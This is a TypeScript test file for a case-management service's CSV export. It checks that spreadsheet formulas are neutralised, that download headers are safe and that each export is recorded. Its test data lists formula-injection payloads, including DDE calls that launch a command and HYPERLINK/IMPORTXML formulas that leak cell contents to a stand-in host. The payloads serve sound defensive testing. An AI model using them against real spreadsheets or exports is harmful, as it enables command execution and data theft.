import { afterAll, beforeAll, expect, test } from 'vitest'
import { classified, type OpenDoor, openDoor } from '../door/open-door.ts'
import { granted } from '../testing/client.ts'
import { desks } from '../testing/operator.ts'

/** What spreadsheets have been made to do by a text. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.example?leak="&A1&A2,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://elsewhere.example/?v=",A1),"//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '  =1+1',
  '\t=1+1',
  '\r\n=1+1',
  'a\n=1+1',
  'a;=1+1',
  '",=1+1,"',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u3000=1+1',
]

let door: OpenDoor
const numbers = new Map<string, string>()
beforeAll(async () => {
  door = await openDoor()
  for (const text of formulas) {
    const customer = { ...classified.customer, account: text, name: text, contact: text }
    const { number } = granted(
      await door.desk.window.post<{ number: string }>('/api/cases', {
        ...classified,
        customer,
        description: text,
      }),
    )
    numbers.set(number, text)
  }
  await door.operator.add({
    ...{
      id: 'SP-FORMULA',
      kind: 'serviceProvider',
      name: '=1+1',
      parent: null,
      provinceCode: 43,
      province: '湖南',
    },
    ...{ city: null, window: null, sp: { scope: 'local', code: 'SP43998' }, department: null },
    ...{ billingInterconnected: false, status: 'active' },
  })
})
afterAll(() => door?.shut())

/** The cells of a table as RFC 4180 has them, by a reader that knows nothing of its writer. */
function cellsIn(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/y
  while (cell.lastIndex < text.length) {
    const [, written = '', end] = cell.exec(text) ?? []
    rows.at(-1)?.push(written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written)
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}

async function exported(language: string): Promise<string[][]> {
  const wire = { method: 'GET', path: `/api/cases/export?queue=all&state=any&language=${language}` }
  const answer = await door.send({ ...wire, token: door.desk.province.token })
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="cases-\d{4}-\d\d-\d\d\.csv"; filename\*=/,
    ),
    'x-content-type-options': 'nosniff',
    'content-security-policy': expect.stringContaining('sandbox'),
    'cache-control': 'no-store',
  })
  expect(answer.text.startsWith('\ufeff')).toBe(true)
  return cellsIn(answer.text.slice(1))
}

test('a spreadsheet computes nothing of what anybody typed, and every text is there as it was typed', async () => {
  const [titles, ...rows] = await exported('zh')
  expect(titles).toContain('描述')
  expect(rows).toHaveLength(formulas.length + 1)
  const at = { number: titles?.indexOf('工单编号') ?? -1, text: titles?.indexOf('描述') ?? -1 }
  for (const row of rows) {
    expect(row).toHaveLength(titles?.length ?? 0)
    for (const cell of row) {
      for (const part of cell.split(/[\t\r\n;]/))
        expect(part).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
    }
    const number = (row[at.number] ?? '').replace("'", '')
    const typed = numbers.get(number)
    if (typed !== undefined) expect(row[at.text]?.replaceAll("'", '')).toBe(typed.replaceAll("'", ''))
  }
  expect(rows.map((row) => (row[at.number] ?? '').replace("'", '')).sort()).toEqual(
    [...numbers.keys(), door.number].sort(),
  )
})

test('it is written in the language that was asked for, and narrowed as the list is', async () => {
  expect((await exported('en'))[0]).toContain('Description')
  const wire = { method: 'GET', token: door.desk.province.token }
  const narrowed = await door.send({ ...wire, path: '/api/cases/export?queue=all&kind=query' })
  expect(cellsIn(narrowed.text)).toHaveLength(1)
  const wrong = await door.send({ ...wire, path: '/api/cases/export?queue=all&sort=id' })
  expect(wrong.status).toBe(400)
})

test('that a list was taken is on record, without what it was narrowed by', async () => {
  const asked = {
    method: 'GET',
    path: '/api/cases/export?queue=mine&account=13900000001',
    token: door.desk.window.token,
  }
  expect((await door.send(asked)).status).toBe(200)
  const { rows } = await door.pool.query(
    `select organisation, about from acts where what = 'casesExported' order by seq desc limit 1`,
  )
  expect(rows).toEqual([{ organisation: desks.window, about: { fields: ['queue', 'account'] } }])
})
